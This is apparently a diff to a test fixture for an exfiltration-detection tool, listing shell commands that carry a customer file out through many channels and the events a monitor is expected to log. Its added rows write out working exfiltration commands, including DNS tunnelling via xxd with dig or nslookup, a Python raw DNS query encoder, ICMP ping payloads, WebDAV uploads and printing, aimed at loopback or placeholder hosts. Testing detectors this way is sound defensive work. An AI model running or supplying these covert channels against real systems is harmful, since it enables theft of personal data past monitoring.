@@ -2,17 +2,21 @@
 
 In a command: {s} the file (1,584 customers), {t} the name of this run, {m} the medium, {share} {bind} the network shares, {home} the
 user's home, {out} a folder of the user's, {sink} the outside's folder, {ssh} {scp} the programs with the options that reach its
-sshd; {http} {https} {ftp} {rsync} {sshport} {smtp} ports of its servers, {port} a listener of this run.
+sshd; {http} {https} {ftp} {rsync} {sshport} {smtp} {dav} ports of its servers, {port} a listener of this run, {davshare} where the WebDAV
+server is mounted, {dns} its name server's address, {echo} one for this run's pings, {printer} its print server.
 """
 
 import dataclasses
+
+
+CUSTOMERS = 1584
 
 
 @dataclasses.dataclass(frozen=True)
 class Row:
     command: str
     channel: str
-    program: str                      # that the event names
+    program: str                      # that the event names; one|other
     to: dict = dataclasses.field(default_factory=dict)   # of the event's destination; values may hold {…}
     unpack: str = "cat"               # makes what arrived readable again, from its input to its output
     at: str = ""                      # where that is, as a pattern in {out}; empty: anything of this run's name outside
@@ -22,14 +26,25 @@ class Row:
     knows_program: bool = True        # else the user at least
     fails: bool = True                # the tool says so when it is stopped
     same_event: bool = True           # the event is about this run's file; else about any of the user's (pipes have no name)
+    arrives: int = CUSTOMERS          # so many customers at least: a slow way leaks some of them
+    activity: str = ""                # events of this kind only
+    parts: int = 1                    # events that tell of all the customers together
+    reads: int = 0                    # events that each of them derives from
 
 
-LOOPBACK = {"address": "127.0.0.1"}
-
-
-def network(command: str, program: str, port: str = "", **more) -> Row:
-    to = dict(LOOPBACK) | ({"port": port} if port else {})
+def network(command: str, program: str, port: str = "", address: str = "127.0.0.1", **more) -> Row:
+    to = {"address": address} | ({"port": port} if port else {})
     return Row(command, "network_transfer", program, to, **more)
+
+
+def gathering(command: str, program: str, **more) -> Row:
+    """From eight files into one place that is no way out: it is told when it has happened, and thresholds count per place."""
+    first = "split -n l/8 {s} {out}/{t}.part. && mkdir {out}/gathered-{t} && sleep 0.3 && "
+    return Row(first + command, "local", program, {"kind": "folder", "name": "gathered-{t}"}, at="gathered-{t}/*", block="late",
+               activity="write", **more)
+
+
+QUERIES = "xxd -p -c 100 {s} | sed -E 's/.{{60}}/&./g; s/[.]?$/.{t}.t.example./'"  # a line of the file's bytes becomes a name
 
 
 def medium(command: str, program: str, **more) -> Row:
@@ -37,6 +52,9 @@ def medium(command: str, program: str, **more) -> Row:
 
 
 ROWS = [
+    # Staging: it goes nowhere yet. First, for nobody is in a hurry to tell of what stays here.
+    gathering("cat {out}/{t}.part.* > {out}/gathered-{t}/all.csv", "cat", reads=8),
+    gathering("cp {out}/{t}.part.* {out}/gathered-{t}/", "cp", parts=8, reads=1),
     # Removable media.
     medium("cp {s} {m}/{t}.csv", "cp"),
     medium("mv {s} {m}/{t}.csv", "mv"),
@@ -64,6 +82,7 @@ ROWS = [
     # Network shares.
     Row("cp {s} {share}/{t}.csv", "network_share", "cp", {"kind": "share", "address": "127.0.0.1"}),
     Row("cat {s} > {share}/{t}.csv", "network_share", "cat", {"kind": "share", "address": "127.0.0.1"}),
+    Row("cp {s} {davshare}/{t}.csv", "network_share", "cp", {"kind": "share", "address": "127.0.0.1"}),
     Row("dd if={s} of={bind}/{t}.csv bs=64k status=none", "network_share", "dd", {"kind": "share"}),
     # Transfers.
     network("curl -sf -T {s} http://127.0.0.1:{http}/{t}", "curl", "{http}"),
@@ -99,6 +118,20 @@ ROWS = [
             unpack="gzip -dc"),
     network("zip -q -P x {out}/{t}.zip {s} && curl -sf -T {out}/{t}.zip http://127.0.0.1:{http}/{t}", "curl", "{http}",
             unpack="funzip -x"),
+    # What asks for names and pings: nobody has to read a file for that. The first of a pipeline is told, to where the last one asks;
+    # on a busy machine, where the shell makes it slowly, the last one. What is asked twice is garbled.
+    network(QUERIES + " | dig @{dns} +tries=1 +time=2 -f - > /dev/null", "xxd|dig", "53", "{dns}", arrives=1500),
+    network(QUERIES + " | nslookup - {dns} > /dev/null", "xxd|nslookup", "53", "{dns}", arrives=1500),
+    network("python3 -c \"import socket; s = socket.socket(2, 2); d = open('{s}', 'rb').read().hex(); "
+            "s.connect(('{dns}', 53)); p = lambda n: bytes(2) + b'\\1\\0\\0\\1' + bytes(6) + "
+            "b''.join(bytes([len(x)]) + x.encode() for x in n.split('.')) + b'\\0\\0\\1\\0\\1'; "
+            "[(s.send(p('%s.%s.{t}.t.example' % (d[i:i + 60], d[i + 60:i + 120] or '20'))), s.recv(999)) for i in range(0, len(d), 120)]\"",
+            "python3", "53", "{dns}"),
+    network("{{ sleep 0.2; head -c 640 {s}; }} | xxd -p -c 16 | "
+            "while read -r hex; do ping -q -n -c 1 -W 1 -s 32 -p $hex {echo} > /dev/null || exit 1; done",
+            "ping", address="{echo}", same_event=False, arrives=5),
+    network("curl -sf -T {s} http://127.0.0.1:{dav}/{t}.csv", "curl", "{dav}"),
+    network("rclone -q --config /dev/null copyto {s} \":webdav,url='http://127.0.0.1:{dav}':{t}.csv\"", "rclone", "{dav}"),
     # Version control.
     Row("git init -q {out}/{t} && cp {s} {out}/{t}/ && git -C {out}/{t} add export.csv", "version_control", "git",
         show="git -c safe.directory=* -C {out}/{t} cat-file -p :export.csv"),
@@ -113,6 +146,12 @@ ROWS = [
         {"kind": "mail", "name": "example.com"}),
     Row("echo text | s-nail -n -S v15-compat -S mta=smtp://127.0.0.1:{smtp} -S smtp-auth=none -S from=x@example.com -s x -a {s} "
         "{t}@example.com", "email", "s-nail", {"kind": "mail", "name": "example.com"}),
+    Row("cat {s} | {msmtp} {t}@example.com", "email", "cat", {"kind": "mail", "name": "example.com"}),
+    # Paper and radio.
+    Row("lp -h {printer} -d out -t {t} {s} > /dev/null", "print", "lp", {"kind": "printer", "name": "out"},
+        show="for job in $(grep -la {t} {spool}/c*); do cat {spool}/d${{job##*/c}}-001; done"),
+    Row("cp {s} {out}/{t}.csv && sleep 0.3 && {{ obexftp -n 127.0.0.1 -U none -H -p {out}/{t}.csv || [ $? = 255 ]; }}", "bluetooth", "obexftp",
+        fails=False),  # it ends with 255 in any case
     # Clouds.
     Row("cp {s} {home}/Nextcloud/{t}.csv", "cloud_sync", "cp", {"kind": "folder"}),
     Row("cp {s} {home}/Dropbox/team/{t}.csv", "cloud_sync", "cp", {"kind": "folder"}),
@@ -131,4 +170,12 @@ ROWS = [
     # The screen: somebody has the file open, and a picture is taken.
     Row("tail -f {s} > /dev/null 2>&1 & sleep 0.5; DISPLAY={display} scrot {out}/{t}.png; ended=$?; kill %1; exit $ended", "screenshot", "bash", at="{t}.png", picture=True,
         same_event=False),  # it is told with all that this user's carriers have read,
+]
+
+# What no row shows, and why.
+UNSUPPORTED = [
+    ("bluetooth-sendto FILE", "bluetooth", "needs a Bluetooth adapter, bluetoothd and a desktop's window; obexd opens the file: it is known as "
+     "a way out, and obexftp's row shows the channel"),
+    ("obexput -b ADDRESS FILE, ussp-push", "bluetooth", "need a Bluetooth adapter"),
+    ("hping3 --icmp -E FILE HOST", "network_transfer", "only root may send such packets"),
 ]
